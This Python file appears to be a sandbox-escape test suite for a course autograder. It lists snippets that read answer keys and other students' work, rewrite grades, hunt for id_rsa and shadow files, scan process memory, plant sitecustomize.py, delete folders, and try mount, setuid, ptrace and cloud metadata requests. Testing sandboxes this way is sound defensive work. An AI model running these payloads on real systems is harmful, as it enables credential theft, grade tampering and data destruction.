"""Attacks that want to read or change what is the grader's or another student's."""

EVERYWHERE = """
import os
def show(path):
    try:
        print(path, open(path, errors="replace").read()[:3000])
    except OSError as error:
        print(type(error).__name__)
"""

FIRST = {
    "reads-the-key": EVERYWHERE
    + "for name in ('ps02-five-hamlets', '.'):\n    show(f'{root}/solutions/{name}/answers.py'); show(f'../../solutions/{name}/questions.toml')",
    "reads-the-gradebook": "import sqlite3\nbook = sqlite3.connect('{root}/gradebook.db')\nprint(book.execute('select * from student').fetchall())",
    "rewrites-the-gradebook": """
import glob, sqlite3
for path in ["{root}/gradebook.db", *glob.glob("/**/gradebook.db", recursive=True)]:
    book = sqlite3.connect(path)
    book.execute("update grade set auto_score = 40, manual_score = 40"); book.commit()
""",
    "reads-other-submissions": EVERYWHERE
    + "import glob\nfor folder in ('submitted', 'autograded', 'feedback'):\n    for path in glob.glob(f'{root}/{folder}/**', recursive=True): show(path)",
    "reads-the-grader-s-source": EVERYWHERE
    + """
import tworivers, pathlib
for path in pathlib.Path(tworivers.__file__).parent.rglob("*.py"):
    if {"keys", "grading", "course"} & set(path.parts):
        show(path)
from tworivers.grading import judge
""",
    "walks-the-whole-disk": """
import os
for folder, folders, names in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("proc", "usr", "lib", ".venv", "site-packages")]
    for name in names:
        if name.endswith((".db", ".ipynb")) or name in ("questions.toml", "answers.py", "shadow", "canary.txt", ".bash_history", "id_rsa"):
            path = os.path.join(folder, name)
            try:
                print(path, open(path, errors="replace").read()[:2000])
            except OSError:
                pass
""",
    "reads-the-environment": "import os\nprint(dict(os.environ))\nprint(open('/proc/self/environ').read())",
    "reads-proc": EVERYWHERE
    + """
for number in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps", "mountinfo", "stat"):
        show(f"/proc/{number}/{name}")
    for name in ("root", "cwd"):
        try:
            print(os.listdir(f"/proc/{number}/{name}/"), os.listdir(f"/proc/{number}/{name}/{root}"))
        except OSError as error:
            print(error.errno)
""",
    "reads-the-memory-of-every-process": """
import os, re
found = set()
for number in filter(str.isdigit, os.listdir("/proc")):
    try:
        memory = open(f"/proc/{number}/mem", "rb", 0)
        for line in open(f"/proc/{number}/maps"):
            low, high = (int(end, 16) for end in line.split()[0].split("-"))
            if "rw" in line and high - low < 30_000_000:
                memory.seek(low)
                found |= set(re.findall(rb"CANARY-[A-Z]+-[0-9a-f]{8}|hidden_inputs|250, 1000", memory.read(high - low)))
    except (OSError, ValueError):
        pass
print(sorted(found)[:20])
""",
    "reads-history-and-inputs": """
shell = get_ipython()
print(In, _ih, shell.history_manager.input_hist_raw)
print(list(shell.history_manager.get_tail(100)))
%history -g
""",
    "reads-open-files": """
import os
for name in os.listdir("/proc/self/fd"):
    try:
        os.set_blocking(int(name), False)
        print(name, os.readlink(f"/proc/self/fd/{name}"), os.read(int(name), 10_000))
    except OSError as error:
        print(name, error.errno)
""",
    "writes-outside": """
import os, site, sys, tworivers
for folder in ["{outside}", "{root}", "{root}/solutions", "/", "/usr", "/etc", "/root", os.path.dirname(tworivers.__file__),
               sys.prefix, *site.getsitepackages(), os.path.expanduser("~root"), "/proc/sys/kernel", "/dev", "/work"]:
    for name in ("canary.txt", "sitecustomize.py", "usercustomize.py", "core_pattern"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("print('mine')")
        except OSError as error:
            print(error.errno)
""",
    "deletes-everything": """
import os, shutil
for folder in ("{outside}", "{root}", "/work", "/root", "/home", os.path.dirname(os.__file__)):
    shutil.rmtree(folder, ignore_errors=True)
""",
    "mounts-the-disk": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print(libc.mount(b"/dev/vda", b"/scratch", b"ext4", 0, None), ctypes.get_errno())
print(libc.umount2(b"/", 2), libc.pivot_root if hasattr(libc, "pivot_root") else None)
for call in (os.setuid, os.setgid, os.seteuid):
    try:
        call(0)
    except OSError as error:
        print(error.errno)
os.chroot("/proc/1/root")
""",
    "asks-the-network": """
import socket, urllib.request
for address in (("127.0.0.1", {port}), ("192.0.2.1", 80), ("1.1.1.1", 53), ("169.254.169.254", 80)):
    try:
        print(socket.create_connection(address, timeout=1).send(b"hello"))
    except OSError as error:
        print(error.errno)
urllib.request.urlopen("http://127.0.0.1:{port}/", timeout=1)
""",
    "traces-its-parents": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for number in (1, 2, os.getppid()):
    print(libc.ptrace(16, number, 0, 0), ctypes.get_errno())
""",
}
